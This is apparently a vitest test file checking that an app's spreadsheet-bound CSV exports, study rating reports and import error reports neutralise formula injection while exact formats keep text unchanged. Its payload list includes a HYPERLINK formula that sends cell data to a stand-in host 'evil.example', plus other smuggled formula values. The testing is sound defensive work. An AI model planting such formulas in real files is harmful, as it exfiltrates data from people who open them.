import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUser } from '../../lib/auth/users';
import { Role } from '../../lib/auth/roles';
import { importKnowledgeBase } from '../../lib/ingest/importer';
import { importErrorReport } from '../../lib/ingest/import-jobs-view';
import { IngestIssue, type KnowledgeSource } from '../../lib/ingest/source';
import { exportFiles, type ExportVariant } from '../../lib/queries/export';
import { starkCsvHeader, starkCsvRow } from '../../lib/queries/formats/stark';
import { importQueries } from '../../lib/queries/import';
import { cliQueryFiles, readQueryInput } from '../../lib/queries/input';
import type { QueryFormat } from '../../lib/queries/types';
import { createStudy } from '../../lib/studies/create';
import { rawCsv, rawJsonl, rawRatings } from '../../lib/studies/export';
import { joinByStudyLink, participantByToken } from '../../lib/studies/participants';
import { saveRating, startParticipation } from '../../lib/studies/participate';
import { db, openAppDatabase, pool } from '../support/app-database';
import { importIbd } from '../support/primekg-ibd';
import type { TestDatabase } from '../support/test-database';

/** What a spreadsheet would run as a formula (OWASP's CSV injection list, with the full-width forms). */
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '－1+1', '＠SUM(A1)'];

let testDb: TestDatabase;
let kbId: number;
let setId: number;
let csvFile: string;

beforeAll(async () => {
  testDb = await openAppDatabase();
  kbId = await importIbd(pool());
  // A STaRK QA file whose query texts are the payloads; answers are IBD entities.
  csvFile = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'skb-formulas-')), 'stark_qa.csv');
  fs.writeFileSync(csvFile, starkCsvHeader(false) + PAYLOADS.map((text, i) => starkCsvRow({ id: String(i), text, answers: ['144', '179'], seeds: [], split: null, metadata: {} }, false)).join(''));
  const input = await readQueryInput('stark', cliQueryFiles('stark', [csvFile]));
  setId = (await importQueries(pool(), input.records, { kbId, setName: 'formulas', origin: 'imported', unknownIds: 'reject', userId: null, sourceName: 'stark_qa.csv' })).setId;
});
afterAll(async () => testDb.drop());

async function exported(format: QueryFormat, variant: ExportVariant): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  for (const file of await exportFiles(pool(), { setId }, format, variant)) {
    let text = '';
    for await (const chunk of file.content()) text += chunk;
    out.set(file.path, text);
  }
  return out;
}

describe('query set exports: exact data files, and a spreadsheet variant of the STaRK CSV', () => {
  it('keeps STaRK CSV, JSONL and TREC exact: the file comes back byte for byte, payloads included', async () => {
    expect(Buffer.from((await exported('stark', 'exact')).get('stark_qa.csv')!, 'utf8').equals(fs.readFileSync(csvFile))).toBe(true);
    const jsonl = (await exported('jsonl', 'exact')).get('queries.jsonl')!;
    expect(jsonl.trimEnd().split('\n').map((l) => (JSON.parse(l) as { query: string }).query)).toEqual(PAYLOADS);
  });

  it('neutralises every query text in the spreadsheet variant, and only there', async () => {
    const csv = (await exported('stark', 'spreadsheet')).get('stark_qa.csv')!;
    const input = await readQueryInput('stark', cliQueryFiles('stark', [writeTemp(csv)]));
    const texts: unknown[] = [];
    for await (const r of input.records) texts.push('text' in r ? r.text : r);
    expect(texts).toEqual(PAYLOADS.map((p) => `'${p}`));
    for (const format of ['jsonl', 'trec'] as const) {
      await expect(exportFiles(pool(), { setId }, format, 'spreadsheet')).rejects.toMatchObject({ status: 400, message: expect.stringMatching(/^for: only the STaRK CSV/) });
    }
  });
});

function writeTemp(text: string): string {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'skb-formulas-')), 'stark_qa.csv');
  fs.writeFileSync(file, text);
  return file;
}

describe('reports people open in spreadsheets', () => {
  it('the study ratings CSV neutralises anonymous participants\' free text; the JSONL keeps it exact', async () => {
    const curator = (await createUser(db(), { email: 'curator@example.org', password: 'a long password', role: Role.CURATOR })).id;
    const study = await createStudy(pool(), kbId, {
      name: 'formulas', consent: '', sources: [{ querySet: 'formulas' }], itemsPerParticipant: 1, participantsPerItem: 10, open: true,
      dimensions: [{ kind: 'text', key: 'comment', label: 'Comment', required: false }],
    }, curator);
    for (const [i, text] of PAYLOADS.entries()) {
      const participant = await participantByToken(pool(), (await joinByStudyLink(pool(), study.linkToken!, `10.1.0.${i + 1}`)).token);
      const [item] = (await startParticipation(pool(), participant)).items;
      await saveRating(pool(), participant, { itemId: item!.itemId, dimension: 'comment', text });
    }
    const rows = await rawRatings(pool(), study.id);
    expect(rows.map((r) => r.text)).toEqual(PAYLOADS);
    const texts = rawCsv(rows).split('\n').slice(1, -1).map((line) => {
      const field = /^(?:[^,]*,){8}("(?:[^"]|"")*"|[^,]*),[^,]*$/.exec(line)![1]!;
      return field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
    });
    expect(texts).toEqual(PAYLOADS.map((p) => `'${p}`));
    expect(rawJsonl(rows).trimEnd().split('\n').map((l) => (JSON.parse(l) as { text: string }).text)).toEqual(PAYLOADS);
  });

  it('the import error report neutralises file names and reasons that quote the file', async () => {
    const admin = await createUser(db(), { email: 'admin@example.org', password: 'a long password', role: Role.ADMIN });
    let jobId = 0;
    const source: KnowledgeSource = {
      progress: () => ({ done: 0, total: 1 }),
      async *entities() {
        yield { externalId: 'a', type: 't', name: 'a', aliases: [], document: {}, at: { file: 'e.jsonl', line: 1 } };
        for (const [i, p] of PAYLOADS.entries()) yield new IngestIssue(p, i + 2, p);
      },
      async *edges() {},
    };
    await importKnowledgeBase(pool(), source, { slug: 'formula-errors', format: 'test', files: [], onError: 'skip', maxErrors: 100, onJobCreated: (id) => (jobId = id) });
    const report = await importErrorReport(pool(), db(), admin, jobId);
    const rows = report.trimEnd().split('\n').slice(1).map((l) => l.split('\t'));
    expect(rows.map(([file]) => file)).toEqual(PAYLOADS.map((p) => `'${p}`.replace(/[\t\r]+/g, ' ')));
    expect(rows.map(([, , reason]) => reason)).toEqual(PAYLOADS.map((p) => `'${p}`.replace(/[\t\r]+/g, ' ')));
  });
});
